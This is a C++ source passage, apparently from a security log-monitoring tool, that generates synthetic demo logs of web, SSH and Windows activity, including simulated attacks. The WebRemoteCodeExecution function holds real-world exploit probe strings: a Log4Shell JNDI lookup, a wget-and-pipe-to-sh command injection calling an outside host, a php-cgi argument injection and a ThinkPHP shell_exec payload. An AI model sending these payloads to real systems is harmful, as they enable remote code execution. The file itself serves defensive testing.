    const int status = path == "/xmlrpc.php" ? 405 : (Chance(0.8) ? 404 : 403);
    ScheduleRequest(t, site, from, "GET", path, status, "-", agent);
    t += Seconds(0.1, 0.8);
  }
}

// Injected online-gambling pages (SEO spam), found by crawlers and visitors from search results.
void DemoLogGenerator::WebGamblingSpam(TimeNs at) {
  static constexpr const char* kPaths[] = {
      "/slot-gacor-maxwin-hari-ini.html",
      "/uploads/berkas/situs-slot88-resmi.html",
      "/?s=slot+gacor+maxwin",
      "/pengumuman/togel-hari-ini-keluar",
      "/amp/slot777-login",
      "/wp-content/uploads/rtp-slot-gacor.html",
  };
  static constexpr const char* kSearchReferrers[] = {
      "https://www.google.com/search?q=slot+gacor+kukarkab",
      "https://www.google.com/search?q=situs+judi+online+resmi",
      "https://www.bing.com/search?q=togel+hari+ini",
  };
  const size_t site = Below(std::size(kSites));
  const int count = Between(4, 8);
  for (int i = 0; i < count; ++i) {
    const bool crawler = Chance(0.5);
    const std::string client =
        crawler ? fmt::format("{}{}", kGooglebotPrefix, Between(1, 254)) : Visitor();
    ScheduleRequest(at + i * Seconds(0.5, 4), site, client, "GET", Pick(kPaths), 200,
                    crawler ? "-" : Pick(kSearchReferrers), crawler ? kGooglebot : Pick(kBrowsers));
  }
}

void DemoLogGenerator::WebShell(TimeNs at) {
  static constexpr const char* kShells[] = {"/wp-content/uploads/2024/03/alfa.php",
                                            "/images/berita/up.php", "/uploads/idx.php",
                                            "/assets/vendor/mini.php"};
  const std::string from = Attacker();
  const size_t site = RandomSite();
  const std::string shell = Pick(kShells);
  const char* agent = Pick(kBrowsers);
  ScheduleRequest(at, site, from, "GET", shell, 200, "-", agent);
  const int count = Between(2, 4);
  for (int i = 1; i <= count; ++i) {
    ScheduleRequest(at + i * Seconds(2, 8), site, from, "POST", shell, 200, "-", agent);
  }
}

void DemoLogGenerator::WebRemoteCodeExecution(TimeNs at) {
  static constexpr const char* kProbes[] = {
      "/?x=${jndi:ldap://198.51.100.66:1389/Exploit}",
      "/index.php?cmd=;wget+http://198.51.100.66/x.sh+-O-|sh",
      "/cgi-bin/php-cgi?-d+allow_url_include%3don+-d+auto_prepend_file%3dphp://input",
      ("/index.php?s=/index/think\\app/invokefunction&function=call_user_func_array&vars[0]="
       "shell_exec(id)"),
  };
  const std::string from = Attacker();
  const size_t site = RandomSite();
  const int count = Between(1, 3);
  for (int i = 0; i < count; ++i) {
    ScheduleRequest(at + i * Seconds(0.5, 2), site, from, "GET", Pick(kProbes),
                    Chance(0.5) ? 404 : 400, "-", "Mozilla/5.0 zgrab/0.x");
  }
}

// --- Linux ---

DemoLine DemoLogGenerator::LinuxEveryday(TimeNs t) {
  const std::string server = Pick(kLinuxServers);
  const uint64_t roll = Below(100);
  const int pid = Pid();
  if (roll < 20) {
    const std::string user = Chance(0.5) ? "deploy" : Pick(kLinuxAdmins);
    const std::string from = Pick(kAdminStations);
    const bool key = user == "deploy" || Chance(0.6);
    const std::string message = key ? fmt::format(
                                          "Accepted publickey for {} from {} port {} ssh2: ED25519 "
                                          "SHA256:{}",
                                          user, from, EphemeralPort(), Pick(kKeyFingerprints))
                                    : fmt::format("Accepted password for {} from {} port {} ssh2",
                                                  user, from, EphemeralPort());
    const std::string host = server;
    Schedule(t + 2 * kMs, [host, pid, user](TimeNs later) {
      return Auth(later, kAuthprivInfo, host, fmt::format("sshd[{}]", pid),
                  fmt::format("pam_unix(sshd:session): session opened for user {}(uid=1001) by "
                              "(uid=0)",
                              user));
    });
    return Auth(t, kAuthInfo, server, fmt::format("sshd[{}]", pid), message);
  }
  if (roll < 45) {
    return Auth(t, kAuthprivInfo, server, fmt::format("CRON[{}]", pid),
                Chance(0.5) ? "pam_unix(cron:session): session opened for user root(uid=0) by "
                              "(uid=0)"
                            : "pam_unix(cron:session): session closed for user root");
  }
  if (roll < 60) {
    const std::string user = Pick(kLinuxAdmins);
    return Auth(t, kAuthprivNotice, server, "sudo",
                fmt::format("{:>8} : TTY=pts/{} ; PWD=/home/{} ; USER=root ; COMMAND={}", user,
                            Between(0, 3), user, Pick(kSudoCommands)));
  }
  if (roll < 70) {
    return Auth(t, kAuthprivInfo, server, fmt::format("sshd[{}]", pid),
                fmt::format("pam_unix(sshd:session): session closed for user {}",
                            Chance(0.5) ? "deploy" : Pick(kLinuxAdmins)));
  }
  // Background noise of the internet on the servers that show SSH to it.
  const std::string host = Pick(kExposedServers);
  const std::string from = Attacker();
  const int port = EphemeralPort();
  if (roll < 80) {
    return Auth(t, kAuthInfo, host, fmt::format("sshd[{}]", pid),
                fmt::format("Connection closed by authenticating user root {} port {} [preauth]",
                            from, port));
  }
  if (roll < 88) {
    return Auth(
        t, kAuthInfo, host, fmt::format("sshd[{}]", pid),
        fmt::format("Received disconnect from {} port {}:11: Bye Bye [preauth]", from, port));
  }
  if (roll < 94) {
    return Auth(t, kAuthInfo, host, fmt::format("sshd[{}]", pid),
                fmt::format("Failed password for root from {} port {} ssh2", from, port));
  }
  return Auth(t, kAuthInfo, host, fmt::format("sshd[{}]", pid),
              fmt::format("Invalid user {} from {} port {}", Pick(kGuessedUsers), from, port));
}

// One outside address guesses passwords on one server: 10-30 failures within a minute (quick:
// 14 within 12 seconds), sometimes followed by a success, a new account and sudo for it.
void DemoLogGenerator::SshBruteForce(TimeNs at, bool quick, bool succeeds) {
  const std::string host = Pick(kExposedServers);
  const std::string from = Attacker();
  const int failures = quick ? 14 : Between(10, 30);
  const TimeNs spacing = (quick ? 12 * kSecond : 55 * kSecond) / failures;
  const bool guesses_names = Chance(0.5);
  TimeNs t = at;
  for (int i = 0; i < failures; ++i) {
    const int pid = Pid();
    const int port = EphemeralPort();
    const std::string user = guesses_names && !Chance(0.3) ? Pick(kGuessedUsers) : "root";
    const bool invalid = user != "root";
    if (invalid) {
      Schedule(t, [host, from, pid, port, user](TimeNs s) {
        return Auth(s, kAuthInfo, host, fmt::format("sshd[{}]", pid),
                    fmt::format("Invalid user {} from {} port {}", user, from, port));
      });
    } else {
      Schedule(t + 1 * kMs, [host, from, pid](TimeNs s) {
        return Auth(s, kAuthprivInfo, host, fmt::format("sshd[{}]", pid),
                    fmt::format("pam_unix(sshd:auth): authentication failure; logname= uid=0 "
                                "euid=0 tty=ssh ruser= rhost={}  user=root",
                                from));
      });
    }
    Schedule(t + Seconds(1.5, 2.5), [host, from, pid, port, user, invalid](TimeNs s) {
      return Auth(s, kAuthInfo, host, fmt::format("sshd[{}]", pid),
                  fmt::format("Failed password for {}{} from {} port {} ssh2",
                              invalid ? "invalid user " : "", user, from, port));
    });
    t += spacing + Seconds(-0.2, 0.2);
  }
  if (!succeeds) return;
  const TimeNs login = t + Seconds(3, 6);
  const int pid = Pid();
  const int port = EphemeralPort();
  Schedule(login, [host, from, pid, port](TimeNs s) {
    return Auth(s, kAuthInfo, host, fmt::format("sshd[{}]", pid),
                fmt::format("Accepted password for root from {} port {} ssh2", from, port));
  });
  Schedule(login + 3 * kMs, [host, pid](TimeNs s) {
    return Auth(s, kAuthprivInfo, host, fmt::format("sshd[{}]", pid),
                "pam_unix(sshd:session): session opened for user root(uid=0) by (uid=0)");
  });
  if (quick || Chance(0.5)) SshBackdoorAccount(login + Seconds(8, 15), host);
}

// What an intruder with root does next: an account of their own, in the sudo group.
void DemoLogGenerator::SshBackdoorAccount(TimeNs at, const std::string& host) {
  static constexpr const char* kNames[] = {"sysbackup", "support01", "mysqld", "www-admin"};
  const std::string name = Pick(kNames);
  const int uid = Between(1002, 1010);
  const int pid = Pid();
  Schedule(at, [host, name, uid, pid](TimeNs t) {
    return Auth(t, kAuthprivInfo, host, fmt::format("useradd[{}]", pid),
                fmt::format("new user: name={}, UID={}, GID={}, home=/home/{}, shell=/bin/bash, "
                            "from=/dev/pts/0",
                            name, uid, uid, name));
  });
  Schedule(at + Seconds(4, 9), [host, name, pid](TimeNs t) {
    return Auth(t, kAuthprivInfo, host, fmt::format("usermod[{}]", pid + 7),
                fmt::format("add '{}' to group 'sudo'", name));
  });
}

// --- Windows ---

DemoLine DemoLogGenerator::Windows(TimeNs t, std::string_view computer, int event_id,
                                   const std::string& event_data) {
  const bool failure = event_id == 4625;
  const int task = event_id == 4672 ? 12548 : event_id == 4634 ? 12545 : 12544;
  return {
      t,
      fmt::format(
          R"({{"Event":{{"System":{{"Provider":{{"#attributes":{{"Name":"Microsoft-Windows-Security-Auditing",)"
          R"("Guid":"{{54849625-5478-4994-A5BA-3E3B0328C30D}}"}}}},"EventID":{},"Version":{},"Level":0,)"
          R"("Task":{},"Opcode":0,"Keywords":"{}","TimeCreated":{{"#attributes":{{"SystemTime":"{}"}}}},)"
          R"("EventRecordID":{},"Correlation":null,"Execution":{{"#attributes":{{"ProcessID":688,)"
          R"("ThreadID":{}}}}},"Channel":"Security","Computer":"{}","Security":null}},)"
          R"("EventData":{{{}}}}}}})",
          event_id, event_id == 4624 ? 2 : 0, task,
          failure ? "0x8010000000000000" : "0x8020000000000000", FormatRfc3339(t), ++record_id_,
          Between(700, 9000), computer, event_data),
      "windows.security"};
}

namespace {

// The logon fields of 4624 and 4625 (the parts both have).
std::string LogonData(std::string_view user, int rid, int logon_type, std::string_view workstation,
                      std::string_view ip, int port, bool kerberos) {
  return fmt::format(
      R"("SubjectUserSid":"S-1-0-0","SubjectUserName":"-","SubjectDomainName":"-",)"
      R"("SubjectLogonId":"0x0","TargetUserSid":"S-1-5-21-3623811015-3361044348-30300820-{}",)"
      R"("TargetUserName":"{}","TargetDomainName":"KUKAR","LogonType":{},)"
      R"("LogonProcessName":"{}","AuthenticationPackageName":"{}","WorkstationName":"{}",)"
      R"("IpAddress":"{}","IpPort":"{}")",
      rid, user, logon_type, kerberos ? "Kerberos" : "NtLmSsp ", kerberos ? "Kerberos" : "NTLM",
      workstation, ip, port);
}

}  // namespace

DemoLine DemoLogGenerator::WindowsEveryday(TimeNs t) {
  const std::string server = Pick(kWindowsServers);
  const Workstation& w = Pick(kWorkstations);
  const uint64_t roll = Below(100);
  const int logon_id = Between(0x100000, 0xffffff);
  if (roll < 12) {
    // An administrator: RDP to a server, then the special privileges of the session.
    const std::string admin = Pick(kWindowsAdmins);
    const std::string from = Pick(kAdminStations);
    Schedule(t + 1 * kMs, [this, server, admin, logon_id](TimeNs later) {
      return Windows(
          later, server, 4672,
          fmt::format(
              R"("SubjectUserSid":"S-1-5-21-3623811015-3361044348-30300820-500",)"
              R"("SubjectUserName":"{}","SubjectDomainName":"KUKAR",)"
              R"("SubjectLogonId":"0x{:x}","PrivilegeList":"SeSecurityPrivilege\r\n\t\t\t)"
              R"(SeBackupPrivilege\r\n\t\t\tSeRestorePrivilege\r\n\t\t\tSeTakeOwnershipPrivilege)"
              R"(\r\n\t\t\tSeDebugPrivilege\r\n\t\t\tSeSystemEnvironmentPrivilege\r\n\t\t\t)"
              R"(SeLoadDriverPrivilege\r\n\t\t\tSeImpersonatePrivilege")",
              admin, logon_id));
    });
    return Windows(
        t, server, 4624,
        LogonData(admin, 500, 10, "LT-KOMINFO-05", from, EphemeralPort(), false) +
            fmt::format(R"(,"TargetLogonId":"0x{:x}","ElevatedToken":"%%1842")", logon_id));
  }
  const size_t staff = Below(std::size(kStaff));
  const int rid = 1105 + static_cast<int>(staff);
  if (roll < 18) {
    // A mistyped password.
    return Windows(
        t, server, 4625,
        LogonData(kStaff[staff], rid, 3, w.name, w.ip, EphemeralPort(), false) +
            R"(,"Status":"0xc000006d","FailureReason":"%%2313","SubStatus":"0xc000006a")");
  }
  if (roll < 35) {
    return Windows(t, server, 4634,
                   fmt::format(R"("TargetUserSid":"S-1-5-21-3623811015-3361044348-30300820-{}",)"
                               R"("TargetUserName":"{}","TargetDomainName":"KUKAR",)"
                               R"("TargetLogonId":"0x{:x}","LogonType":3)",
                               rid, kStaff[staff], logon_id));
  }
  return Windows(
      t, server, 4624,
      LogonData(kStaff[staff], rid, 3, "-", w.ip, EphemeralPort(), true) +
          fmt::format(R"(,"TargetLogonId":"0x{:x}","ElevatedToken":"%%1843")", logon_id));
}

// A password spray from one workstation (malware, or a curious user): one password, many names.
void DemoLogGenerator::WindowsPasswordSpray(TimeNs at) {
  const Workstation& w = Pick(kWorkstations);
  const std::string server = Pick(kWindowsServers);
  const int count = Between(8, 15);
  for (int i = 0; i < count; ++i) {
    const size_t staff = Below(std::size(kStaff));
    const int port = EphemeralPort();
    Schedule(at + i * Seconds(0.3, 1.5), [this, w, server, staff, port](TimeNs t) {
      return Windows(
          t, server, 4625,
          LogonData(kStaff[staff], 1105 + static_cast<int>(staff), 3, w.name, w.ip, port, false) +
              R"(,"Status":"0xc000006d","FailureReason":"%%2313","SubStatus":"0xc000006a")");
    });
  }
}

// --- The feed ---

DemoFeed::DemoFeed(Pipeline& pipeline, const Clock& clock, uint64_t seed,
                   std::chrono::milliseconds interval)
    : pipeline_(pipeline), clock_(clock), interval_(interval), generator_(seed, clock.Now()) {}

DemoFeed::~DemoFeed() { Stop(); }

void DemoFeed::Start() {
  thread_ = std::thread([this] { Run(); });
}

void DemoFeed::Stop() {
  {
    std::lock_guard lock(mu_);
    stop_ = true;
  }
  cv_.notify_all();
  if (thread_.joinable()) thread_.join();
}

void DemoFeed::Run() {
  InputCounters& counters = pipeline_.counters(Input::kDemo);
  std::unique_lock lock(mu_);
  while (!stop_) {
    lock.unlock();
    const TimeNs now = clock_.Now();
    std::vector<DemoLine> lines = generator_.Step(now);
    if (!lines.empty()) {
      RawBatch batch;
      batch.input = Input::kDemo;
      batch.source_address = "demo";
      batch.lines.reserve(lines.size());
      uint64_t bytes = 0;
      for (DemoLine& l : lines) {
        bytes += l.text.size();
        batch.lines.push_back({std::move(l.text), now, 0});
      }
      const size_t count = batch.lines.size();
      // Waits for room like a TCP listener; false only once the pipeline has stopped.
      if (!pipeline_.Submit(std::move(batch))) return;
      counters.received->Add(count);
      counters.bytes->Add(bytes);
    }
    lock.lock();
    cv_.wait_for(lock, interval_, [this] { return stop_; });
  }
}

}  // namespace pantau
